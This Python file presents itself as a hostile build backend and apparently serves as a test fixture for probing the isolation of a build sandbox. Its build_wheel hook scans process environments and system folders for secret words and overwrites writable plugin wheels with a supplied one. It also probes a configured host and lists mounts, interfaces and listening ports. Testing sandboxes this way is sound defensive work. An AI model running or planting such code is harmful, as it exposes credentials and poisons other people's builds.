"""A hostile build backend: it looks for all that it should not get at, spoils what it can
write to, and reports what it found in the wheel that it makes."""
import json
import os
import pathlib
import socket
import subprocess

import backend


def texts():
    """Yields where and what: environments, command lines, and files that steps bring."""
    for process in pathlib.Path("/proc").iterdir():
        if process.name.isdigit():
            for name in ("environ", "cmdline"):
                yield f"{process}/{name}", process / name
    for top in ("/.quatrain", "/run", "/out", "/tmp", "/root", "/etc", "/var/lib", "/proc/1/root/.quatrain", "/proc/1/root/run", "/proc/1/cwd/run"):
        for folder, _, files in os.walk(top):
            for name in files:
                yield f"{folder}/{name}", pathlib.Path(folder, name)


def secrets(words):
    found = []
    for where, path in texts():
        try:
            if path.is_file() and path.stat().st_size < 1 << 20 and any(w.encode() in path.read_bytes() for w in words):
                found.append(where)
        except OSError:
            pass
    return sorted(set(found))


def ports():
    """Returns the ports on which something listens, as the kernel lists them."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in open(table).read().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":
                found.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(found)


def interfaces():
    return sorted(line.split(":")[0].strip() for line in open("/proc/net/dev").read().splitlines()[2:])


def ask(host, port, path):
    try:
        with socket.create_connection((host, port), timeout=2) as s:
            s.sendall(f"GET {path} HTTP/1.0\r\nHost: quatrain\r\n\r\n".encode())
            answer = b""
            while chunk := s.recv(1 << 16):
                answer += chunk
            return answer.decode(errors="replace")
    except OSError:
        return ""


def mounts():
    """Returns where something can be written that outlives the container's own root."""
    found = []
    for line in open("/proc/self/mountinfo"):
        left, right = line.split(" - ")
        at, options, kind = left.split()[4], left.split()[5].split(","), right.split()[0]
        if "rw" in options and kind not in ("proc", "sysfs", "tmpfs", "devpts", "mqueue", "cgroup", "cgroup2", "devtmpfs"):
            found.append(at)
    return sorted(found)


def spoil(wheel):
    """Puts a wheel in the place of every wheel that can be written to."""
    spoiled = []
    for at in mounts():
        for folder, _, files in os.walk(at):
            for name in files:
                if at != "/" and name.startswith("plugin-") and name.endswith(".whl"):
                    pathlib.Path(folder, name).write_bytes(bytes.fromhex(wheel))
                    spoiled.append(name)
    return spoiled


def build_wheel(folder, config_settings=None, metadata_directory=None):
    plan = json.loads(pathlib.Path("spy.json").read_text())
    subprocess.Popen(["sleep", "3600"])  # it keeps the output open
    words, planted = ([bytes.fromhex(w).decode() for w in plan[k]] for k in ("words", "planted"))
    seen = {
        "secrets": secrets(words), "planted": secrets(planted), "mounts": mounts(), "interfaces": interfaces(),
        "spoiled": spoil(plan["wheel"]), "answers": {p: ask(plan["host"], plan["port"], p) for p in plan["paths"]}, "listening": [],
    }
    if seen["interfaces"] == ["lo"]:  # else these are the builder's own, or a whole network's
        seen["listening"] = ports()
    pathlib.Path(plan["name"] + ".py").write_text("seen = " + json.dumps(seen) + "\n")
    return backend.build_wheel(folder)
